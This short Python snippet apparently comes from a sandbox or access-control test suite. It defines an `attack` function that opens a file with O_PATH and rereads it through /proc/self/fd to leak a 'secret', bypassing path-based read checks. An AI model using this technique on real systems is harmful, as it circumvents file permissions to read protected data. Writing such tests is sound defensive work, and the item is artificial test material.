# Opens with O_PATH (no read right needed) and reopens through /proc/self/fd.
# proof: secret
import os


def attack(arg):
    fd = os.open(arg["public"], os.O_PATH)
    return open(f"/proc/self/fd/{fd}").read()
